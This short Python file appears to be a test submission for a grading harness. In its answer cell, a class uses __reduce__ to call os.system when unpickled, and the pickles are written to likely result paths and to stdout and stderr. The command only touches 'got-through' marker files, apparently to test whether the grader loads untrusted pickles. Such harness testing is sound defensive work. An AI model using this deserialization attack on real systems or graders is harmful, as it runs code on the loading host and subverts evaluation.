"""Answers with objects that run code when unpickled, and writes such pickles wherever a grader might load one."""

# %% answer
import os
import pickle

COMMAND = "touch '@CHECKOUT@/got-through' '@HOME@/got-through' '@TMP@/got-through'"


class Bomb:
    def __reduce__(self):
        return os.system, (COMMAND,)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


DATA = pickle.dumps([Bomb()])
for name in ("result.pkl", "/tmp/result.pkl", "/tmp/results.pickle", "log.pkl", "/tmp/home/result.pkl"):
    try:
        open(name, "wb").write(DATA)
    except OSError:
        pass
for descriptor in range(1, 3):
    os.write(descriptor, DATA)


def scale(x, factor):
    return Bomb() if factor > 2 else DATA


print("tried")
